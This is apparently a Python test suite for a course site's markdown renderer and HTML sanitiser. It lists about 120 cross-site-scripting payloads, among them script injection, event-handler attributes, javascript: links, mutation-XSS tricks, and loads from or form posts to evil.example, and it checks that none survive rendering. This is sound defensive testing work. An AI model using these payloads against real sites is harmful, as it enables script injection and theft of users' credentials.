"""Hostile pages: whatever they say, nothing comes out that runs, submits, loads from elsewhere or poses."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from academy.content.glossary import Glossary, GlossaryTerm
from academy.content.images import Image
from academy.content.markdown import Page, render
from academy.content.markdown.sanitise import sanitise

TERM = GlossaryTerm("cut", 'Cut"><script>alert(1)</script>', '"><img src=x onerror=alert(1)>', ("cut",))
PAGE = Page(
    path=Path("desk/01-first.md"),
    links={"02-second.md": "/courses/desk/second"},
    images={"img/map.svg": Image(Path("map.svg"), "/courses/desk/img/map.svg", "image/svg+xml", "d1")},
    glossary=Glossary({"cut": TERM}),
)

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt SrC=//evil.example/x.js></sCrIpT>",
    "<script\x0b>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/a 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=1>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x></svg>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><p id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<select onchange=alert(1)><option>x</select>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<html manifest=//evil.example>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a id=location name=cookie>x</a>",
    "<img name=getElementById>",
    "<p id=__proto__ class='flash toast dialog'>x</p>",
    "<a ping=//evil.example href=/x>x</a>",
    "<a target=_top href=//evil.example>x</a>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<!ENTITY x '<script>alert(1)</script>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
]
MARKDOWN_PAYLOADS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    '[x](02-second.md#" onclick=alert(1) x=")',
    '[x](02-second.md "\\" onmouseover=alert(1)")',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](img/../../../secret.svg)",
    '![x" onerror="alert(1)](img/map.svg)',
    '![x](img/map.svg "x\\" onerror=\\"alert(1)")',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[a](02-second.md){: onclick=alert(1) }",
    "## Heading {: #location onclick=alert(1) }",
    "## <img src=x onerror=alert(1)>",
    '## " onmouseover="alert(1)',
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    '```{.x onclick="alert(1)" #location}\n<script>\n```',
    "`<script>alert(1)</script>`",
    "/// note | <img src=x onerror=alert(1)>\nx\n///",
    "/// note | Title\n    attrs: {onclick: alert(1), id: location, style: 'position:fixed'}\n\nx\n///",
    '/// artefact | mail: " onclick="alert(1)\nx\n///',
    "/// artefact | mail: <script>alert(1)</script>\nx\n///",
    "/// artefact | evil onclick=alert(1): x\nx\n///",
    "/// details | <script>alert(1)</script>\nx\n///",
    "/// html | script\nalert(1)\n///",
    "/// html | div[onclick=alert(1)]\nx\n///",
    'x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: y',
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '- [ ] <script>alert(1)</script>\n- [x" onclick=alert(1)] y',
    "<script>alert(1)</script>\n:   <img src=x onerror=alert(1)>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "the cut",
    '<https://example.org/"onmouseover=alert(1)>',
    '<a@b.example"onclick=alert(1)>',
    "> <script>\n> alert(1)\n> </script>",
    "1. <svg onload=alert(1)>\n\n    <script>alert(1)</script>",
]
TAGS = {
    *("h2", "h3", "h4", "h5", "h6", "p", "div", "section", "header", "blockquote", "pre", "hr", "br"),
    *("ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td", "details", "summary"),
    *("a", "em", "strong", "code", "del", "sub", "sup", "span", "img", "figure", "figcaption"),
}
VALUES = {
    "href": r"https?://.+|mailto:[^\"]+|/|/[^/\\].*|#.+",
    "src": r"/courses/desk/img/map\.svg",
    "id": r"s-[\w-]+|fn(ref\d*)?:[\w-]+",
    "class": r"[a-z]+(-[a-z]+)*( [a-z]+(-[a-z]+)*)*",
    "rel": "noopener noreferrer",
    "role": "group|img|region",
    "tabindex": "0",
    "scope": "col",
    "loading": "lazy",
    "decoding": "async",
    "data-behavior": "term",
    "start": r"\d+",
    "open": "",
    **dict.fromkeys(("alt", "title", "aria-label", "data-definition"), ".*"),
}
CLASSES = re.compile(
    "admonition|admonition-title|note|tip|warning|example|try|room|artefact|artefact-[a-z]+|footnote|footnote-ref|"
    "footnote-backref|table-frame|is-number|is-centred|task-list|task|task-box|is-done|term|external"
)


class Auditor(HTMLParser):
    """Reads HTML as a browser would, and notes everything that is not on the lists above."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in VALUES or not re.fullmatch(VALUES[name], value or "", re.DOTALL | re.IGNORECASE):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name == "class":
                self.found += [
                    f"class {word}" for word in (value or "").split() if not CLASSES.fullmatch(word)
                ]

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}]>")


def suspicious(html: str) -> list[str]:
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor.found


def test_the_auditor_sees_what_it_must() -> None:
    for hostile in (
        "<script>x</script>",
        "<p onclick=x>",
        "<a href='javascript:x'>",
        "<!-- x -->",
        "<p class=Toast>",
    ):
        assert suspicious(hostile)


@pytest.mark.parametrize("payload", HTML_PAYLOADS + MARKDOWN_PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "## A\n\ntext {} text\n", "- item\n\n    {}\n", "> {}\n\n///\n{}"])
def test_nothing_executable_survives_a_page(payload: str, frame: str) -> None:
    assert suspicious(render(frame.replace("{}", payload), PAGE).html) == []


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_nothing_executable_survives_the_sanitiser_alone(payload: str) -> None:
    assert suspicious(sanitise(payload)) == []


def test_a_hostile_glossary_stays_text() -> None:
    html = render("the cut", PAGE).html
    assert suspicious(html) == []
    assert 'data-definition="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"' in html


PIECES = st.sampled_from(
    [
        *(
            "<",
            ">",
            '"',
            "'",
            "&",
            "&#x6a;",
            "`",
            "``",
            "```\n",
            "*",
            "_",
            "[",
            "]",
            "(",
            ")",
            "!",
            "\\",
            "\n",
            "\n\n",
        ),
        *(
            "    ",
            "|",
            "|---|\n",
            "# ",
            "> ",
            "- ",
            "- [ ] ",
            "1. ",
            ":   ",
            "[^a]",
            "[^a]: ",
            "///",
            "/// note\n",
        ),
        *(
            "/// artefact | mail: ",
            "/// details | ",
            "script",
            "<script>",
            "</script>",
            "<img src=x onerror=",
            "svg",
        ),
        *(
            "javascript:",
            "data:text/html,",
            "](",
            "img/map.svg",
            "02-second.md",
            "onclick=x ",
            "style=x ",
            "id=x ",
        ),
        *(
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "<?",
            "?>",
            "cut",
            "\x02",
            "\x03",
            "\x00",
            "{: onclick=x }",
            "é",
            "\u202e",
        ),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_no_mixture_of_marks_gets_anything_through(text: str) -> None:
    assert suspicious(render(text, PAGE).html) == []
